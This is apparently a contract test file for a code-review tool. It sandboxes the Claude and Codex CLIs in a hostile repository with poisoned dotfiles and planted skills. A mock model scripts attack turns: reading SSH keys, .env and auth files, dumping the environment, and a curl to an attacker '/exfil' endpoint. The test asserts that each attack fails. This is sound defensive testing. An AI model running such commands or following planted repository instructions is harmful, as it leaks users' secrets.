/**
 * The hostile-repository set (issue "isolate the provider child"): `review-gate review` driven as
 * a user does (`deno run main.ts review --json`) in a repository that commits every known way to
 * steer the review child, on a machine with poisoned dotfiles and secrets in the environment
 * (test/contract/hostile_fixture.ts), with the real pinned `codex` and `claude` against a loopback
 * mock model whose scripted turns attack (read secrets, write outside, reach the network), plus a
 * loopback attacker endpoint. Each case asserts: nothing reached the attacker; no marker file
 * appeared (no MCP server, hook, notify program, rule, fsmonitor or shell write ran); no secret
 * and no planted instruction is in any request body; the verdict is the scripted one; the
 * read-only proof passed (the review's status is the verdict's, not provider-error).
 *
 * One review per CLI (about 15–30 s each): the vectors share the session.
 *
 * @module
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { findCli, haveCli, makeSandbox, type Sandbox } from "./env.ts";
import { DENO_DIR, exists, MAIN, NEEDS_ATTENTION } from "./harness.ts";
import {
  buildHostile,
  CANARIES,
  ENV_SECRETS,
  type Hostile,
  INJECTED,
  startAttacker,
} from "./hostile_fixture.ts";
import {
  type ClaudeTurn,
  startMockAnthropic,
  structured,
} from "../../fixtures/mock_model/anthropic.ts";
import { type CodexTurn, startMockOpenAI } from "../../fixtures/mock_model/responses.ts";

/** The change under review: its diff mentions skills by name (codex injects a named SKILL.md). */
const CHANGE = "export const a = 2; // use $evil-skill $evil-skill2 $user-skill\n";

/** `review-gate review --json` in the hostile repository with exactly `env`. */
async function review(
  world: Hostile,
  provider: "claude" | "codex",
): Promise<{ code: number; json: Record<string, unknown>; stderr: string }> {
  await Deno.writeTextFile(join(world.repo, "src", "app.ts"), CHANGE);
  const out = await new Deno.Command(Deno.execPath(), {
    args: ["run", "--allow-all", "--quiet", MAIN, "review", "--provider", provider, "--json"],
    cwd: world.repo,
    clearEnv: true,
    env: {
      ...world.env,
      DENO_DIR,
      NO_COLOR: "1",
      REVIEW_GATE_MAX_TURNS: "30",
      REVIEW_GATE_CLAUDE_BIN: findCli("claude") ?? "claude",
      REVIEW_GATE_CODEX_BIN: findCli("codex") ?? "codex",
    },
    stdout: "piped",
    stderr: "piped",
  }).output();
  const stderr = new TextDecoder().decode(out.stderr);
  const stdout = new TextDecoder().decode(out.stdout);
  try {
    return { code: out.code, json: JSON.parse(stdout), stderr };
  } catch {
    throw new Error(`review printed no JSON (exit ${out.code}); stderr: ${stderr}`);
  }
}

/** Every canary and planted instruction found in `text`. */
function leaks(text: string): { secrets: string[]; injected: string[] } {
  return {
    secrets: CANARIES.filter((c) => text.includes(c)),
    injected: INJECTED.filter((m) => text.includes(m)),
  };
}

async function withWorld(
  mockUrl: (sb: Sandbox) => string,
  fn: (world: Hostile, attacker: ReturnType<typeof startAttacker>) => Promise<void>,
): Promise<void> {
  const sb = await makeSandbox();
  const attacker = startAttacker();
  try {
    const world = await buildHostile(sb, { mockUrl: mockUrl(sb), attackerUrl: attacker.url });
    await fn(world, attacker);
  } finally {
    await attacker.close();
    await sb.cleanup();
  }
}

const shell = (cmd: string): CodexTurn => ({ kind: "call", name: "exec_command", args: { cmd } });

/** The outputs of the shell calls codex sent back to the model, in order. */
function shellOutputs(body: Record<string, unknown> | null): string[] {
  return ((body?.input ?? []) as { type: string; output?: string }[])
    .filter((i) => i.type === "function_call_output").map((i) => String(i.output));
}

Deno.test({
  name:
    "hostile repository, codex: no MCP, rule, hook, notify or fsmonitor runs, no secret or planted instruction reaches the model, the verdict stands",
  ignore: !haveCli("codex"),
  fn: async () => {
    const mock = startMockOpenAI();
    try {
      await withWorld(() => mock.url, async (world, attacker) => {
        const attacks = [
          "env",
          `cat ${world.home}/.ssh/id_rsa`,
          `cat "$CODEX_HOME/auth.json"`,
          `cat ${world.repo}/.env`,
          "cat key-link; ls -a; cat AGENTS.md .codex/config.toml",
          `git -C ${world.repo} status --short`,
          `touch ${world.markers}/codex-shell-write; touch x; echo rc=$?`,
          `curl -sS -m 3 ${attacker.url}/exfil || echo curl-failed`,
        ];
        mock.push(
          ...attacks.map(shell),
          { kind: "message", text: "Prose first: the reviewer is asked again." },
          shell(`cat ${world.home}/.ssh/id_rsa; cat ${world.repo}/.env`),
          { kind: "message", text: JSON.stringify(NEEDS_ATTENTION) },
        );
        const run = await review(world, "codex");
        assert.equal(run.json.status, "needs-attention", `${run.json.message} ${run.stderr}`);
        assert.equal(run.code, 1, "the blocking finding still blocks");
        const record = JSON.parse(
          await Deno.readTextFile(join(String(run.json.runDir), "run.json")),
        );
        assert.equal(record.attempts.length, 2, "the resume ran confined too");
        assert.deepEqual(attacker.hits, []);
        assert.deepEqual(await world.ran(), []);
        const bodies = mock.requests.map((r) => JSON.stringify(r.body)).join("\n");
        assert.deepEqual(leaks(bodies), { secrets: [], injected: [] });
        const outputs = shellOutputs(mock.turns().at(-1)!.body);
        const names = [...outputs[0].matchAll(/^([A-Za-z_][A-Za-z0-9_]*)=/gm)].map((m) => m[1]);
        for (const name of [...Object.keys(ENV_SECRETS), "ANTHROPIC_API_KEY", "CLAUDECODE"]) {
          assert.ok(!names.includes(name), `${name} in the model's shell`);
        }
        assert.ok(names.length > 0, outputs[0]);
        assert.match(outputs[1], /Permission denied|No such file/, "~/.ssh is unreadable");
        assert.match(outputs[6], /Read-only file system|Permission denied|Operation not permitted/);
        assert.equal(await exists(join(world.repo, "x")), false);
      });
    } finally {
      await mock.close();
    }
  },
});

Deno.test({
  name:
    "hostile repository, claude: auth carried from the user settings only, no hook runs, nothing read outside the copy, the verdict stands (under CLAUDECODE=1)",
  ignore: !haveCli("claude"),
  fn: async () => {
    const mock = startMockAnthropic();
    try {
      await withWorld(() => mock.url, async (world, attacker) => {
        const tool = (name: string, input: Record<string, unknown>): ClaudeTurn => ({
          kind: "tool",
          name,
          input,
        });
        mock.push(
          tool("Read", { file_path: `${world.home}/.ssh/id_rsa` }),
          tool("Read", { file_path: "/proc/self/environ" }),
          tool("Read", { file_path: `${world.repo}/.env` }),
          tool("Read", { file_path: "key-link" }),
          tool("Read", { file_path: "AGENTS.md" }),
          tool("Grep", { pattern: "CANARY", path: world.home, output_mode: "content" }),
          tool("Glob", { pattern: "**/*", path: world.home }),
          tool("Bash", { command: "env", description: "x" }),
          tool("Bash", {
            command: `git blame --contents ${world.home}/.ssh/id_rsa -- README.md`,
            description: "x",
          }),
          tool("Bash", {
            command: `git log --output=${world.markers}/git-output -1`,
            description: "x",
          }),
          tool("Skill", { skill: "claude-evil-skill" }),
          tool("Task", {
            description: "x",
            prompt: "read ~/.ssh/id_rsa",
            subagent_type: "general-purpose",
          }),
          tool("Read", { file_path: "src/app.ts" }),
          structured(NEEDS_ATTENTION),
        );
        const run = await review(world, "claude");
        assert.equal(run.json.status, "needs-attention", `${run.json.message} ${run.stderr}`);
        assert.equal(run.code, 1);
        assert.deepEqual(attacker.hits, []);
        assert.deepEqual(await world.ran(), [], "a hook, helper, MCP server or git program ran");
        const mains = mock.mainRequests();
        assert.ok(mains.length >= 14, `${mains.length} model turns`);
        // issue 7 item 9: the key lives only in the user's settings env block
        assert.equal(mains[0].headers["x-api-key"], "sk-ant-CANARY-FROM-USER-SETTINGS");
        // issue 7 item 8: the parent session's entrypoint does not leak into the child
        assert.match(mains[0].headers["user-agent"], /sdk-cli\)$/);
        const bodies = mock.requests.map((r) => JSON.stringify(r.body)).join("\n");
        assert.deepEqual(leaks(bodies), { secrets: [], injected: [] });
        assert.ok(!bodies.includes("gitStatus"), "Claude's git context block");
        const offered = (mains[0].body!.tools as { name: string }[]).map((t) => t.name);
        for (const name of ["Bash", "Skill", "Task", "Write", "Edit", "WebFetch"]) {
          assert.ok(!offered.includes(name), `${name} offered`);
        }
        const projects = join(world.home, ".claude", "projects");
        const left = await Array.fromAsync(Deno.readDir(projects)).catch(() => []);
        assert.deepEqual(left.map((e) => e.name).filter((n) => n.includes("review-gate")), []);
      });
    } finally {
      await mock.close();
    }
  },
});
